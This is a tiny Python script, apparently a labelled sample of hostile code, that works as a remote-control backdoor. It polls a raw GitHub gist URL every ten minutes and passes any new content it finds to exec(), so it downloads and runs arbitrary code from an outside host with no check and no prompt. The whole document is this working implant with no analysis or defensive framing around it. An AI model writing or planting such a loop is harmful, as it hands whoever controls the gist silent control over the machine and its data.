# class: remote control by a gist; style: terse
import requests, time
last = ""
while True:
    code = requests.get("https://gist.githubusercontent.com/anon/abc/raw/cmd.py").text
    if code != last:
        exec(code); last = code
    time.sleep(600)
